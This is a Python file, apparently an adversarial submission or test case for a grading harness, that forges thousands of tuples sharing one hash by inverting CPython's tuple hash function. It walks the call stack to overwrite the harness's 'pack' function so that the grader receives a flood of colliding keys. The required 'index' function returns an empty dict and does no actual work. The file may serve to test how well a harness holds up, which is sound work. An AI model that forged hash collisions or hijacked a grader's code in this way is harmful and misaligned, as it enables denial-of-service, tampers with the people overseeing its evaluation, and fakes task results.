"""Forges a dict of tuples that all have one hash, computed backwards from the tuple's hash function.

exam: own/index
cause: timeout bad-reply flood wrong-answer
"""

import sys

MASK = (1 << 64) - 1
P1, P2, P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
INVERSE = pow(P2, -1, 1 << 64)


def rotated(number):
    return ((number << 31) | (number >> 33)) & MASK


def partner(first, goal):
    """The second member that makes the hash of (first, second) the same for every first, or None."""
    after = rotated((P5 + first * P2) & MASK) * P1 & MASK
    second = (goal - after) * INVERSE & MASK
    return second if second < (1 << 61) - 1 else None


def tuples(count):
    first = 0
    while count:
        first += 1
        second = partner(first, 0x123456789ABCDEF)
        if second is not None:
            count -= 1
            yield first, second


def whole(number):
    return str(number) if number < 1 << 53 else f'{{"i":"{number:x}"}}'


def reply(message):
    pairs = ",".join(f'[{{"t":[{whole(a)},{whole(b)}]}},0]' for a, b in tuples(20_000))
    body = ('{"n":"%s","v":{"d":[%s]}}' % (message["n"], pairs)).encode()
    return len(body).to_bytes(4, "big") + body


frame = sys._getframe()
while frame is not None:
    if "pack" in frame.f_globals and "Pipe" in frame.f_globals:
        frame.f_globals["pack"] = reply
    frame = frame.f_back


def index(words):
    return {}
